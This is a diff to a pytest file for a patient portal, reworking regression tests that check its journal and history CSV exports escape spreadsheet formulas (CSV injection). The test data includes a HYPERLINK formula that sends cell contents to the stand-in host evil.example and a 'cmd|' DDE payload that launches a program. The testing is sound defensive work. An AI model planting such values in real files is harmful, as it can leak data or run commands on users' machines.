@@ -9,7 +9,7 @@ from datetime import timedelta, timezone
 
 import pytest
 import time_machine
-from conftest import account, hidden_fields, journal, open_space, outbox
+from conftest import account, hidden_fields, journal, open_space
 
 pytestmark = pytest.mark.db
 
@@ -92,35 +92,46 @@ def test_a_zip_past_its_seven_days_is_refused_even_before_the_purge_runs(app, lo
     assert not journal("export.download", object_id=str(job.id))
 
 
-FORMULAS = ("=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+cmd|'/c calc'!A0", "\t@SUM(1)")
-
-
 def test_no_csv_cell_of_the_export_is_a_formula(app, login_as, person):
-    """Hole: names and titles typed by people went into the CSV files as they were, so a
-    document titled "=HYPERLINK(…)" became a live formula in the spreadsheet that opens the
-    journal (CSV injection)."""
+    """Hole: names typed by people went into the CSV files as they were, so a caregiver whose
+    name reads "=HYPERLINK(…)" became a live formula in the spreadsheet where the person opens
+    the journal of their space (CSV injection)."""
     from portal.accounts.models import Person
-    from portal.documents.models import Document
-    camille = person("Camille")
-    Person.update(given_names="-2+3").where(Person.id == camille.id).execute()  # "Qui"
-    titled = list(Document.select().where(Document.patient == camille.id).limit(len(FORMULAS)))
-    assert len(titled) == len(FORMULAS)
-    for document, formula in zip(titled, FORMULAS):
-        Document.update(title=formula).where(Document.id == document.id).execute()
-    client = login_as("camille")
-    for document in titled:  # the journal then names each title
-        assert client.get(f"/dossier/documents/{document.id}").status_code == 200
-    assert ask_export(client).status_code == 303
-    archive = unzip(client.get(f"/mes-donnees/{last_export(camille.id).id}/fichier"))
+    camille, jean = person("Camille"), person("Jean")
+    formulas = ("=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+cmd|'/c calc'!A0")
+    Person.update(given_names=formulas[0], family_name=formulas[1]).where(
+        Person.id == camille.id).execute()
+    caregiver = login_as("camille")
+    assert open_space(caregiver, jean.id).status_code == 302
+    assert caregiver.get("/dossier/documents/").status_code == 200  # journaled with her name
+    holder = login_as("jean")
+    assert ask_export(holder).status_code == 303
+    archive = unzip(holder.get(f"/mes-donnees/{last_export(jean.id).id}/fichier"))
     cells = []
     for name in ("journal/historique.csv", "mesures/mesures.csv"):
         data = archive.read(name).decode("utf-8-sig")
         cells += [cell for row in csv.reader(io.StringIO(data), delimiter=";") for cell in row]
-    journal_text = archive.read("journal/historique.csv").decode("utf-8-sig")
-    assert "HYPERLINK" in journal_text  # the titles are there…
-    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert any("HYPERLINK" in cell for cell in cells)  # her name is there…
+    dangerous = [c for c in cells if c.lstrip(" ")[:1] in ("=", "+", "-", "@", "\t", "\r")]
     assert not dangerous, dangerous  # …never as a formula
-    assert "'=HYPERLINK" in journal_text
+    assert "'" + formulas[0] + " " + formulas[1] in cells
+
+
+def test_the_history_csv_holds_no_formula_either(app, login_as, person):
+    """The same hole in the history page's own CSV export (the same rows): closed by the same
+    mechanism (portal/spreadsheet.py)."""
+    from portal.accounts.models import Person
+    camille, jean = person("Camille"), person("Jean")
+    Person.update(given_names="@SUM(1)", family_name="-1").where(Person.id == camille.id).execute()
+    caregiver = login_as("camille")
+    assert open_space(caregiver, jean.id).status_code == 302
+    assert caregiver.get("/dossier/documents/").status_code == 200
+    exported = login_as("jean").get("/dossier/historique/export.csv")
+    assert exported.status_code == 200
+    cells = [cell for line in csv.reader(io.StringIO(exported.get_data(as_text=True).lstrip(
+        "\ufeff")), delimiter=";") for cell in line]
+    assert "'@SUM(1) -1" in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
 
 
 def test_a_message_with_markup_is_text_in_the_messages_page(app, login_as, person):
